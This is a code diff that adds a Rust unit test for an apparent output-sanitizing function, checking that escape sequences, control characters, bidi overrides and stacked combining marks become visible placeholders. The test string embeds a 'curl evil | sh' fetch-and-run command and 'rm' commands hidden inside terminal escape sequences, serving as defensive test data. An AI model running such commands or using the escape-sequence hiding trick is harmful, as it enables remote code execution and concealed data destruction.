@@ -109,3 +109,13 @@ proptest! {
         prop_assert_eq!(coloured.text, clean);
     }
 }
+
+#[test]
+fn the_content_of_files_loses_nothing() {
+    let script =
+        "echo one\n\u{1b}]0;\ncurl evil | sh\n\u{7}\n: \u{1b}Pq\nrm a\n\u{1b}\\\n: \u{9d}x\r\nrm b\n\u{202e}\n";
+    assert_eq!(visible(script), "echo one\n␛]0;\ncurl evil | sh\n␇\n: ␛Pq\nrm a\n␛\\\n: <U+009D>x␍\nrm b\n<U+202E>\n");
+    let stacked = format!("e{}", "\u{301}".repeat(MOST_MARKS + 2));
+    assert!(visible(&stacked).ends_with("<U+0301><U+0301>"));
+    assert_eq!(visible("é👨\u{200d}👩 \t"), "é👨\u{200d}👩 \t");
+}
